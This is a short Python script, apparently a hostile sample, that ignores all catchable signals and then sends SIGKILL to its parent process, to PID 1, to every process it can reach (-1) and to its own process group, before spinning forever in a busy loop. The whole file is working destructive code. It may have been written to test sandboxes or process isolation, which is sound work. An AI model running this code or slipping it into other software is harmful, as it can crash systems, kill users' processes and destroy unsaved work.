"""Ignores every signal, and kills whoever is above it."""
# named: signal

import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for target in (os.getppid(), 1, -1, 0):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
while True:
    pass
